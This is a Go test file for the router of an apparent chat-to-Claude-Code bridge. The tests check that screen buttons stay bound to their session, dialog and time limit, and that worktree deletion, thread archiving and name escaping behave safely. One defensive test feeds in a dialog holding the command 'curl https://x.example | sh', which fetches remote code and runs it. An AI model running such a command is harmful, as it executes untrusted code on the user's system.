package router

import (
	"context"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ccbridge/ccbridge/internal/chat"
	"github.com/ccbridge/ccbridge/internal/session"
	"github.com/ccbridge/ccbridge/internal/state"
	"github.com/ccbridge/ccbridge/internal/worktree"
)

const thread = "100000000000000050"

func click(r *Router, l *log, ch, id string) {
	r.HandleComponent(l.onDrawn(r, chat.ComponentEvent{Server: "home", ChannelID: ch, User: chat.User{ID: owner}, CustomID: id, Content: "📦 kept"}), fakeResponder{l: l})
}

// /screen buttons press keys only into the session of the channel they
// were drawn in, and only within a minute; Refresh always redraws.
func TestScreenButtonsAreBoundAndExpire(t *testing.T) {
	r, _, _, l, _ := newRouter(t)
	now := time.Unix(1_800_000_000, 0)
	r.now = func() time.Time { return now }
	r.HandleCommand(chat.CommandEvent{Server: "home", ChannelID: thread, ParentID: channel, User: chat.User{ID: owner}, Name: "screen"}, fakeResponder{l: l})
	key := session.ThreadKey("home", "api", thread)
	esc := keyID(t, key, "Escape", now)
	click(r, l, thread, esc)
	l.waitFor(t, "keys "+key+" Escape")

	// The same button in the project channel (another session) or in
	// another thread presses nothing.
	n := len(l.all())
	click(r, l, channel, esc)
	click(r, l, "100000000000000051", esc)
	for _, op := range l.all()[n:] {
		if !strings.HasPrefix(op, "respond ephemeral=true These buttons belong to another session") {
			t.Fatalf("a button used elsewhere did %q", op)
		}
	}
	// A minute later the keys are refused; Refresh still redraws.
	now = now.Add(61 * time.Second)
	n = len(l.all())
	click(r, l, thread, esc)
	if got := l.all()[n:]; len(got) != 1 || !strings.Contains(got[0], "more than a minute old") {
		t.Fatalf("stale click did %q", got)
	}
	click(r, l, thread, keyID(t, key, "", now.Add(-time.Hour)))
	if got := l.all()[n+1:]; len(got) != 2 || got[0] != "defer-update" || !strings.HasPrefix(got[1], "edit ```") {
		t.Fatalf("refresh did %q", got)
	}
	// Buttons of the old formats (no drawing time, no dialog) press nothing.
	for _, args := range [][]string{{key, "1"}, {key, "1", strconv.FormatInt(now.Unix(), 36)}} {
		old, _ := chat.ID{Instance: "inst1", Kind: "key", Args: args}.Encode()
		n = len(l.all())
		click(r, l, thread, old)
		if got := l.all()[n:]; len(got) != 1 || !strings.Contains(got[0], "older ccbridge") {
			t.Fatalf("old button %q did %q", args, got)
		}
	}
}

// drawn records what a command or click drew last.
type drawn struct {
	fakeResponder
	reply *chat.Reply
}

func (d drawn) Edit(r chat.Reply) (string, error) { *d.reply = r; return d.fakeResponder.Edit(r) }

// buttonID finds a drawn button by its label.
func buttonID(t *testing.T, r chat.Reply, label string) string {
	t.Helper()
	for _, row := range r.Rows {
		for _, b := range row.Buttons {
			if b.Label == label {
				return b.CustomID
			}
		}
	}
	t.Fatalf("no button %q in %+v", label, r)
	return ""
}

// A /screen key answers only the dialog it was drawn over: drawn over
// "ls", it presses nothing once "curl | sh" has replaced that dialog (the
// first was answered in the terminal), and the message is redrawn with
// the new dialog and buttons bound to it.
func TestScreenKeysAreBoundToTheDialogShown(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	rule := strings.Repeat("─", 40)
	dialog := func(cmd string) string {
		return "● Running…\n" + rule + "\n Bash command\n   " + cmd + "\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n Esc to cancel · Tab to amend"
	}
	ss.screens = []string{dialog("ls")}
	var shown chat.Reply
	r.HandleCommand(chat.CommandEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, Name: "screen"}, drawn{fakeResponder{l: l}, &shown})
	yes := buttonID(t, shown, "1")

	ss.mu.Lock()
	ss.screens = []string{dialog("curl https://x.example | sh")}
	ss.mu.Unlock()
	n := len(l.all())
	var redrawn chat.Reply
	r.HandleComponent(l.onDrawn(r, chat.ComponentEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, CustomID: yes}), drawn{fakeResponder{l: l}, &redrawn})
	got := l.all()[n:]
	if slices.ContainsFunc(got, func(op string) bool { return strings.HasPrefix(op, "keys") }) {
		t.Fatalf("a key meant for one dialog answered another: %q", got)
	}
	if !strings.HasPrefix(redrawn.Content, screenChanged) || !strings.Contains(redrawn.Content, "curl https://x.example | sh") {
		t.Fatalf("redrawn as %q", redrawn.Content)
	}

	// The redrawn buttons press into the dialog they show.
	n = len(l.all())
	r.HandleComponent(l.onDrawn(r, chat.ComponentEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, CustomID: buttonID(t, redrawn, "2")}), fakeResponder{l: l})
	if got := l.all()[n:]; len(got) < 2 || got[1] != "keys home-api 2" {
		t.Fatalf("a key over the dialog shown did %q", got)
	}
}

// Session keys of long but valid names overflow a custom_id: they are
// hashed, so /screen keeps its buttons and they still work.
func TestScreenButtonsOfLongNames(t *testing.T) {
	key := session.ThreadKey(strings.Repeat("s", 64), strings.Repeat("p", 64), thread)
	rows := screenRows("a1b2c3d4e5", key, dialogHash(""), time.Now())
	if len(rows) != 3 {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows {
		for _, b := range row.Buttons {
			if b.CustomID == "" || len(b.CustomID) > chat.MaxIDLen {
				t.Fatalf("button %q has custom_id %q", b.Label, b.CustomID)
			}
			id, err := chat.DecodeID(b.CustomID)
			if err != nil || !chat.ArgIs(id.Args[0], key) {
				t.Fatalf("%q does not name %s: %v", b.CustomID, key, err)
			}
		}
	}
}

// keptRelease is a worktree kept with changes of a fingerprint.
func keptRelease(fp string) session.Release {
	return session.Release{Path: "/src/api/.claude/worktrees/x-000050", Branch: "ccbridge/x-000050",
		Changes: worktree.Changes{Dirty: true, DiffStat: "a.txt | 1 +", Fingerprint: fp}}
}

func registerThread(t *testing.T, r *Router) string {
	t.Helper()
	key := session.ThreadKey("home", "api", thread)
	r.remember(key, func(g *state.Registered) {
		g.Server, g.Project, g.ThreadID, g.ThreadName = "home", "api", thread, "side"
	})
	return key
}

// "Delete anyway" acts on a confirmation that may be days old: it deletes
// nothing while the thread's session runs, nor when the worktree changed
// since the person was asked; only the very state they saw is deleted.
func TestDeleteAnywayIsBoundToWhatWasSeen(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	key := registerThread(t, r)
	confirm := r.wtID(key, "confirm", "fp1")

	ss.setState("idle")
	click(r, l, channel, confirm)
	if got := l.all(); len(got) != 2 || !strings.Contains(got[1], "running again") {
		t.Fatalf("confirm while the session runs: %q", got)
	}

	ss.setState("stopped")
	ss.releases = []session.Release{keptRelease("fp2")}
	n := len(l.all())
	click(r, l, channel, confirm)
	got := l.all()[n:]
	if !slices.Equal(got[:2], []string{"defer-update", "release " + key + " force=false"}) || len(got) != 3 || !strings.Contains(got[2], "changed since you were asked") || !strings.HasSuffix(got[2], "buttons=1") {
		t.Fatalf("confirm of a changed worktree: %q", got)
	}

	ss.releases = []session.Release{keptRelease("fp1"), {Path: "/w", Branch: "b", Removed: true}}
	n = len(l.all())
	click(r, l, channel, confirm)
	got = l.all()[n:]
	if len(got) != 4 || got[2] != "release "+key+" force=true" || !strings.Contains(got[3], "Deleted the worktree") {
		t.Fatalf("confirm of the same worktree: %q", got)
	}

	// A confirmation without a fingerprint (an older message), or clicked
	// in another project's channel, deletes nothing.
	n = len(l.all())
	old, _ := chat.ID{Instance: "inst1", Kind: "wt", Args: []string{key, "confirm"}}.Encode()
	click(r, l, channel, old)
	click(r, l, "999", confirm)
	for _, op := range l.all()[n:] {
		if !strings.HasPrefix(op, "respond ephemeral=true") {
			t.Fatalf("a stale confirmation did %q", op)
		}
	}
}

// A thread archived mid-turn keeps its session until the turn ends; the
// kept-worktree notice goes to the project channel (a post in the thread
// would un-archive it), once; "Keep" is remembered.
func TestArchiveWaitsForTheTurnAndReportsInTheParent(t *testing.T) {
	r, ss, _, l, store := newRouter(t)
	key := registerThread(t, r)
	ss.setState("busy")
	ss.releases = []session.Release{keptRelease("fp1")}
	r.HandleThreadArchived("home", thread, channel)
	ss.waitStatus(t)
	// Give the closer a chance to act wrongly: a session record change is
	// what it wakes on.
	touch(t, store, key)
	touch(t, store, key)
	if slices.ContainsFunc(l.all(), func(op string) bool { return strings.HasPrefix(op, "stop") }) {
		t.Fatalf("a busy session was stopped: %q", l.all())
	}
	ss.setState("idle")
	touch(t, store, key)
	l.waitFor(t, "stop "+key)
	l.waitFor(t, "release "+key+" force=false")
	deadline := time.Now().Add(5 * time.Second)
	var post string
	for post == "" && time.Now().Before(deadline) {
		for _, op := range l.all() {
			if strings.HasPrefix(op, "post ") {
				post = op
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	if !strings.HasPrefix(post, "post "+channel+" 📦 The worktree of <#"+thread+"> was kept") {
		t.Fatalf("notice = %q", post)
	}
	// Claude's reply un-archived the thread: it is archived again.
	l.waitFor(t, "archive "+thread)
	r.waitClosed(t)

	// Archived again with the same worktree: no second notice.
	ss.releases = []session.Release{keptRelease("fp1")}
	n := len(l.all())
	r.HandleThreadArchived("home", thread, channel)
	l.waitFor(t, "release "+key+" force=false")
	r.waitClosed(t)
	for _, op := range l.all()[n:] {
		if strings.HasPrefix(op, "post") {
			t.Fatalf("the notice was posted again: %q", op)
		}
	}

	// Keep is remembered: no release is even tried on the next archive.
	click(r, l, channel, r.wtID(key, "keep"))
	if reg, _ := r.opt.Registry.Sessions.Get(key); !reg.WorktreeKept {
		t.Fatal("Keep was not remembered")
	}
	n = len(l.all())
	r.HandleThreadArchived("home", thread, channel)
	l.waitFor(t, "stop "+key)
	r.waitClosed(t)
	if slices.ContainsFunc(l.all()[n:], func(op string) bool { return strings.HasPrefix(op, "release") }) {
		t.Fatalf("a kept worktree was released again: %q", l.all()[n:])
	}
}

// The thread of a turn that ended after its archive is archived again only
// once the turn's reply is out (the hook recorded the turn, and posted it
// or queued it and the daemon posted it): the reply un-archives it.
func TestArchiveAgainAfterTheReply(t *testing.T) {
	r, ss, _, l, store := newRouter(t)
	ctx := context.Background()
	key := registerThread(t, r)
	store.Sessions.Update(ctx, key, func(s *state.Session) error { s.ClaudeSessionID, s.LastPromptID = "c1", "p1"; return nil })
	ss.setState("busy")
	r.HandleThreadArchived("home", thread, channel)
	ss.waitStatus(t) // the closer saw the turn
	ss.setState("idle")
	touch(t, store, key)
	l.waitFor(t, "stop "+key)
	queued := store.OutboxKey()
	for _, step := range []func(){
		func() {
			store.Outbox.Create(ctx, queued, state.Outbound{Server: "home", ChannelID: thread, Content: "the reply"})
		},
		func() {
			store.Turns.Create(ctx, state.TurnKey("c1", "p1"), state.Turn{SessionKey: key, Reply: "the reply"})
		},
	} {
		time.Sleep(750 * time.Millisecond)
		if slices.Contains(l.all(), "archive "+thread) {
			t.Fatalf("archived before the reply was out: %q", l.all())
		}
		step()
	}
	time.Sleep(750 * time.Millisecond)
	if slices.Contains(l.all(), "archive "+thread) {
		t.Fatalf("archived while the reply was queued: %q", l.all())
	}
	store.Outbox.Delete(ctx, queued)
	l.waitFor(t, "archive "+thread)
}

// The reply is posted before the transcript holds the final message; the
// Stop hook then still holds its place in the channel's order while it
// edits the earlier blocks in (the turn recorded, the channel's lock free,
// nothing queued). The thread is archived again only once that place is
// given up: the edit would un-archive it.
func TestArchiveAgainWaitsForTheReplysPlace(t *testing.T) {
	r, ss, _, l, store := newRouter(t)
	ctx := context.Background()
	key := registerThread(t, r)
	store.Sessions.Update(ctx, key, func(s *state.Session) error { s.ClaudeSessionID, s.LastPromptID = "c1", "p1"; return nil })
	places, err := state.OpenPlaces(store.Dir)
	if err != nil {
		t.Fatal(err)
	}
	_, release, err := places.Hold(ctx, store, thread)
	if err != nil {
		t.Fatal(err)
	}
	ss.setState("busy")
	r.HandleThreadArchived("home", thread, channel)
	ss.waitStatus(t)
	ss.setState("idle")
	touch(t, store, key)
	l.waitFor(t, "stop "+key)
	store.Turns.Create(ctx, state.TurnKey("c1", "p1"), state.Turn{SessionKey: key, Reply: "the reply"})
	time.Sleep(1500 * time.Millisecond)
	if slices.Contains(l.all(), "archive "+thread) {
		release()
		t.Fatalf("archived while the Stop hook held the reply's place: %q", l.all())
	}
	release()
	l.waitFor(t, "archive "+thread)
}

// A thread archived while idle gets no post: it is not archived again.
func TestArchiveWhileIdleIsNotRepeated(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	key := registerThread(t, r)
	ss.setState("idle")
	r.HandleThreadArchived("home", thread, channel)
	l.waitFor(t, "stop "+key)
	r.waitClosed(t)
	time.Sleep(750 * time.Millisecond)
	if slices.Contains(l.all(), "archive "+thread) {
		t.Fatalf("an idle thread was archived again: %q", l.all())
	}
}

// A thread archived mid-turn that gets a new message stays alive.
func TestArchivedThreadInUseAgainIsNotStopped(t *testing.T) {
	r, ss, _, l, store := newRouter(t)
	key := registerThread(t, r)
	ss.setState("busy")
	r.HandleThreadArchived("home", thread, channel)
	ev := msg("more work")
	ev.ChannelID, ev.ParentID = thread, channel
	r.HandleMessage(ev)
	l.waitFor(t, "react m1 ✅")
	ss.setState("idle")
	touch(t, store, key)
	r.waitClosed(t)
	if slices.ContainsFunc(l.all(), func(op string) bool { return strings.HasPrefix(op, "stop") }) {
		t.Fatalf("a thread in use again was stopped: %q", l.all())
	}
}

// TestDeleteMidTurnStopsAfterTheTurn (security review 2, finding 12): a
// thread deleted mid-turn (Manage Threads, as for archiving) keeps its
// session until the turn ends, then stops it; its kept worktree is
// reported in the parent by the thread's name.
func TestDeleteMidTurnStopsAfterTheTurn(t *testing.T) {
	r, ss, _, l, store := newRouter(t)
	key := registerThread(t, r)
	ss.setState("busy")
	ss.releases = []session.Release{keptRelease("fp1")}
	r.HandleThreadDeleted("home", thread, channel)
	ss.waitStatus(t)
	touch(t, store, key)
	touch(t, store, key)
	if slices.ContainsFunc(l.all(), func(op string) bool { return strings.HasPrefix(op, "stop") }) {
		t.Fatalf("a busy session was stopped: %q", l.all())
	}
	ss.setState("idle")
	touch(t, store, key)
	l.waitFor(t, "stop "+key)
	r.waitClosed(t)
	if !slices.ContainsFunc(l.all(), func(op string) bool {
		return strings.HasPrefix(op, "post "+channel+" 📦 The worktree of the deleted thread “side” was kept")
	}) {
		t.Fatalf("ops = %q", l.all())
	}
	if slices.Contains(l.all(), "archive "+thread) {
		t.Fatalf("a deleted thread was archived again: %q", l.all())
	}
}

// A thread archived mid-turn, then deleted, whose turn does not end, is
// stopped once the cap on a deleted thread's wait is reached.
func TestDeleteMidTurnStopsAtTheCap(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	r.deletedCap = 300 * time.Millisecond
	key := registerThread(t, r)
	ss.setState("busy")
	r.HandleThreadArchived("home", thread, channel)
	ss.waitStatus(t)
	r.HandleThreadDeleted("home", thread, channel)
	time.Sleep(100 * time.Millisecond)
	if slices.ContainsFunc(l.all(), func(op string) bool { return strings.HasPrefix(op, "stop") }) {
		t.Fatalf("stopped before the cap: %q", l.all())
	}
	l.waitFor(t, "stop "+key)
	r.waitClosed(t)
}

// touch changes a session record, which wakes whoever watches them.
func touch(t *testing.T, store *state.Store, key string) {
	t.Helper()
	if _, err := store.Sessions.Update(context.Background(), key, func(s *state.Session) error {
		s.LastEvent = s.LastEvent + "."
		return nil
	}); err != nil {
		t.Fatal(err)
	}
}

// waitClosed waits until no thread is being closed.
func (r *Router) waitClosed(t *testing.T) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		r.mu.Lock()
		n := len(r.closing)
		r.mu.Unlock()
		if n == 0 {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatal("a thread is still being closed")
}

// Archiving or deleting a thread that never had a session does nothing.
func TestClosingAnUnknownThreadDoesNothing(t *testing.T) {
	r, _, _, l, _ := newRouter(t)
	r.HandleThreadArchived("home", thread, channel)
	r.HandleThreadDeleted("home", thread, channel)
	r.waitClosed(t)
	if got := l.all(); len(got) != 0 {
		t.Fatalf("ops = %q", got)
	}
	if regs, _ := r.opt.Registry.Sessions.List(); len(regs) != 0 {
		t.Fatalf("registry = %+v", regs)
	}
}

// A thread archived mid-turn before a restart still stops when its turn
// ends: the new daemon finds the archive in the registry.
func TestArchiveMidTurnSurvivesARestart(t *testing.T) {
	r, ss, _, l, store := newRouter(t)
	key := registerThread(t, r)
	r.remember(key, func(g *state.Registered) { g.Archived = true }) // what the old daemon recorded
	ss.setState("busy")
	r.FinishArchivedThreads()
	touch(t, store, key)
	if slices.ContainsFunc(l.all(), func(op string) bool { return strings.HasPrefix(op, "stop") }) {
		t.Fatalf("a busy session was stopped: %q", l.all())
	}
	ss.setState("idle")
	touch(t, store, key)
	l.waitFor(t, "stop "+key)
	r.waitClosed(t)
}

// Threads that are not archived, or whose session is not running, are left
// alone at start-up.
func TestFinishArchivedThreadsLeavesOthersAlone(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	registerThread(t, r)
	ss.setState("idle")
	r.FinishArchivedThreads()
	r.waitClosed(t)
	if slices.ContainsFunc(l.all(), func(op string) bool { return strings.HasPrefix(op, "stop") }) {
		t.Fatalf("a live thread was stopped: %q", l.all())
	}
}

// A redraw with its note still fits one message.
func TestScreenWithANoteFits(t *testing.T) {
	screen := strings.Repeat(strings.Repeat("x", 99)+"\n", 19)
	reply := screenReply("inst1", "home-api", screenChanged, screen, dialogHash(""), time.Now())
	if n := len([]rune(reply.Content)); n > chat.Limit || !strings.HasPrefix(reply.Content, screenChanged+"\n```\n…") {
		t.Fatalf("%d characters: %q", n, reply.Content[:200])
	}
}

// TestChosenNamesAreShownPlain (security review 2, finding 21): a thread's
// name and a file's name, which non-owners may choose, draw no link, no
// formatting and no mention in the bot's notices.
func TestChosenNamesAreShownPlain(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	key := registerThread(t, r)
	r.remember(key, func(g *state.Registered) { g.ThreadName = "[Delete anyway is safe](https://e.example) **now**" })
	rel := keptRelease("fp1")
	rel.Changes.Ignored = []string{"[x](https://e.example)<@1>.env"}
	ss.releases = []session.Release{rel}
	ss.setState("idle")
	r.HandleThreadDeleted("home", thread, channel)
	l.waitFor(t, "stop "+key)
	r.waitClosed(t)
	var post string
	for _, op := range l.all() {
		if strings.HasPrefix(op, "post ") {
			post = op
		}
	}
	for _, want := range []string{`“\[Delete anyway is safe\](https://e.example) \*\*now\*\*”`, `(such as \[x\](https://e.example)\<\@1>.env)`} {
		if !strings.Contains(post, want) {
			t.Errorf("the notice does not show %s plain: %q", want, post)
		}
	}
}
